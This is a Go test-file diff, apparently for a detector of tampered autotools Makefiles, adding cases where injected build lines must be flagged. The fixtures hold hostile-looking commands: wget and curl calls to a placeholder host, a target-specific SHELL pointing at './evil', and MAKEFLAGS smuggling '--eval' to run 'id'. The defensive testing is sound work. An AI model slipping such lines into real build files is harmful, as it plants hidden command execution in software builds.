@@ -141,6 +141,19 @@ func TestMakefileHunksThatRunNewCommandsStayHigh(t *testing.T) {
 			re := regexp.MustCompile(`(?m)^am__untar = .*$`)
 			return re.ReplaceAllString(s, "am__untar = $${TAR-tar} xf - ; wget -q https://example.invalid/x")
 		}},
+		{name: "a silent-rules variable (computed name) gets a command", want: "wget", apply: func(s string) string {
+			re := regexp.MustCompile(`(?m)^am__v_CC_0 = .*$`)
+			return re.ReplaceAllString(s, `am__v_CC_0 = @echo "  CC      " $@; wget -q https://example.invalid/x;`)
+		}},
+		{name: "a recipe on the rule line", want: "curl", apply: func(s string) string {
+			return strings.Replace(s, "\nall-am: Makefile", "\nall-am: adv-x\nadv-x: ; @curl -s https://example.invalid/x\nall-am: Makefile", 1)
+		}},
+		{name: "a target-specific SHELL", want: "./evil", apply: func(s string) string {
+			return strings.Replace(s, "\nall-am: Makefile", "\nall-am: SHELL = ./evil\nall-am: Makefile", 1)
+		}},
+		{name: "MAKEFLAGS with --eval", want: "MAKEFLAGS", apply: func(s string) string {
+			return withAssignment(t, s, "MAKEFLAGS += --eval=all-am:;@id")
+		}},
 		{name: "a recipe runs a variable nobody defines in the regenerated file", want: "$(am__evil)", apply: func(s string) string {
 			s = withAssignment(t, s, "am__evil = id")
 			return strings.Replace(s, "\t@$(MKDIR_P) compat\n", "\t@$(MKDIR_P) compat\n\t@$(am__evil)\n", 1)
@@ -302,12 +315,21 @@ func TestShellCommandsOfRecipes(t *testing.T) {
 }
 
 func TestParseMakefileKinds(t *testing.T) {
-	text := "# comment\nam__x = a \\\n\tb c\n@AMDEP_TRUE@@am__include@ @am__quote@x.Po@am__quote@\n.PHONY: all \\\n\tclean\nall: x\n\t@echo a \\\n\t  b\n@am__fastdepCC_TRUE@\t$(COMPILE) x\ninclude ./$(DEPDIR)/x.Po\nV := $(shell id)\n"
+	text := "# comment\nam__x = a \\\n\tb c\n@AMDEP_TRUE@@am__include@ @am__quote@x.Po@am__quote@\n.PHONY: all \\\n\tclean\nall: x\n\t@echo a \\\n\t  b\n@am__fastdepCC_TRUE@\t$(COMPILE) x\ninclude ./$(DEPDIR)/x.Po\nV := $(shell id)\nx: y ; @cmd a\nx: SHELL = /bin/sh\n"
 	var kinds []int
-	for _, l := range parseMakefile(strings.Split(strings.TrimSuffix(text, "\n"), "\n")) {
+	lines := parseMakefile(strings.Split(strings.TrimSuffix(text, "\n"), "\n"))
+	for _, l := range lines {
 		kinds = append(kinds, l.kind)
 	}
-	want := []int{mkOther, mkAssign, mkOther, mkRule, mkRule, mkRecipe, mkRecipe, mkOther, mkAssign}
+	if n := len(lines); n == 11 {
+		if got, _ := lines[9].shellText(); got != "cmd a" {
+			t.Errorf("inline recipe %q, want %q", got, "cmd a")
+		}
+		if got, _ := lines[10].shellText(); lines[10].name != "SHELL" || got != " /bin/sh" {
+			t.Errorf("target-specific assignment %s = %q", lines[10].name, got)
+		}
+	}
+	want := []int{mkOther, mkAssign, mkOther, mkRule, mkRule, mkRecipe, mkRecipe, mkOther, mkAssign, mkRule, mkRule}
 	if len(kinds) != len(want) {
 		t.Fatalf("kinds %v, want %v", kinds, want)
 	}
